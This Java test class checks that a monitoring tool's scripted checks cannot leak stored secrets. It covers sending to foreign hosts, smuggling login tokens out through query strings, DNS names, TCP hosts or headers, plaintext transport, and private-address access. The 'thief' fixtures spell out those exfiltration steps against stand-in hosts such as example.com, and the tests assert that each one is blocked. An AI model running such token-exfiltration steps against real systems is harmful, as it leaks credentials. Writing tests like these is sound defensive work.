package dev.conduct.checks;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import dev.conduct.support.ConductTest;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.springframework.context.ApplicationContext;

/// What a check may send where.
@ConductTest(properties = {"test.alone=ChecksTest", "conduct.outbound.allow=localhost", "conduct.scheduling=false"})
class CheckSecretsTest {

    private final Checking at;

    CheckSecretsTest(ApplicationContext context) {
        this.at = new Checking(context);
    }

    @AfterEach
    void stop() {
        at.close();
    }

    @Test
    void a_secret_is_sent_to_its_own_host_alone() {
        at.secrets.write(at.product, "PROBE", "shop.example.com", Shop.PASSWORD, Checking.QA);
        at.checks.write(
                at.product,
                "thief",
                at.flow("  - http: POST ${shop}/login\n    body: ${secret.PROBE}\n"),
                null,
                Checking.QA);
        at.checks.write(at.product, "told", at.flow("  - http: GET ${shop}/${secret.PROBE}\n"), null, Checking.QA);

        assertThat(at.done("thief").steps().getFirst().says()).contains("is for shop.example.com, not for localhost");
        assertThat(at.done("told").steps().getFirst().says()).contains("cannot stand in an address");
        assertThat(at.shop.heard()).doesNotContain(Shop.PASSWORD);
    }

    @Test
    void what_was_kept_after_a_secret_goes_to_the_hosts_of_the_secret_alone_and_is_not_told() {
        var signIn = """
                  - http: POST ${shop}/login
                    json: {user: probe, password: "${secret.PROBE}"}
                    keep: {token: /token}
                """;
        at.secrets.write(at.product, "PROBE", "localhost", Shop.PASSWORD, Checking.QA);
        for (var thief : List.of(
                "http: GET http://127.0.0.1:1/?${token}",
                "dns: ${token}.example.com",
                "tcp: ${token}.example.com:80",
                "{http: GET https://example.com/, headers: {X-Token: '${token}'}}")) {
            at.checks.write(at.product, "thief", at.flow(signIn + "  - " + thief + "\n"), null, Checking.QA);
            assertThat(at.done("thief").steps().getLast().says())
                    .as(thief)
                    .contains("may go to the hosts of the secret alone");
        }
        at.checks.write(
                at.product,
                "told",
                at.flow(signIn.replace("keep:", "expect: {json: {/token: x}}\n    keep:")),
                null,
                Checking.QA);
        assertThat(at.done("told").steps().getFirst().says())
                .isEqualTo("/token is a text of 13 characters, expected x.");

        at.secrets.write(at.product, "PROBE", "localhost, 127.0.0.1", Shop.PASSWORD, Checking.QA);
        at.checks.write(
                at.product,
                "meant",
                at.flow(signIn + "  - http: GET http://127.0.0.1:" + at.shop.port() + "/?${token}\n"),
                null,
                Checking.QA);
        assertThat(at.done("meant").steps().getLast().says()).contains("private address");
    }

    @Test
    void a_secret_crosses_the_network_in_the_clear_only_where_the_text_says_so() {
        at.secrets.write(at.product, "PROBE", "shop.invalid", Shop.PASSWORD, Checking.QA);
        var step = "  - http: POST http://shop.invalid/login\n    body: ${secret.PROBE}\n";
        at.checks.write(at.product, "clear", at.flow(step), null, Checking.QA);
        assertThat(at.done("clear").steps().getFirst().says()).contains("to shop.invalid in the clear");
        at.checks.write(at.product, "clear", at.flow(step + "    plain: true\n"), null, Checking.QA);
        assertThat(at.done("clear").steps().getFirst().says()).startsWith("No answer: shop.invalid");
    }

    @Test
    void the_two_hundredth_secret_can_still_be_replaced() {
        at.database.sql("""
                        insert into checks.secret (id, product, name, host, value, written_at, written_by)
                        select gen_random_uuid(), :product, 'FILLED_' || n, 'a', ''::bytea, now(), 'system:test'
                          from generate_series(1, 199) n
                        """).param("product", at.product).update();
        at.secrets.write(at.product, "LAST", "a.example.com", "first value", Checking.QA);
        at.secrets.write(at.product, "LAST", "b.example.com", "second value", Checking.QA);
        assertThat(at.secrets.of(at.product))
                .anyMatch(kept -> kept.name().equals("LAST") && kept.host().equals("b.example.com"));
        assertThatThrownBy(() -> at.secrets.write(at.product, "MORE", "a.example.com", "value", Checking.QA))
                .hasMessageContaining("200 secrets");
        at.database.sql("delete from checks.secret where name like 'FILLED_%'").update();
    }

    @Test
    void private_addresses_are_asked_only_where_they_are_allowed() {
        at.checks.write(at.product, "private", """
                title: Inside
                environment: staging
                steps:
                  - http: GET http://127.0.0.1:%1$d/version
                """.formatted(at.shop.port()), null, Checking.QA);
        at.checks.write(at.product, "port", """
                title: Inside
                environment: staging
                steps:
                  - tcp: 127.0.0.1:%1$d
                """.formatted(at.shop.port()), null, Checking.QA);
        at.checks.write(at.product, "data", """
                title: Inside
                environment: staging
                steps:
                  - database: postgresql://127.0.0.1:5432/orders
                """, null, Checking.QA);

        for (var name : List.of("private", "port", "data")) {
            assertThat(at.done(name).steps().getFirst().says()).as(name).contains("which is a private address");
        }
        assertThat(at.shop.heard()).isEmpty();
    }
}
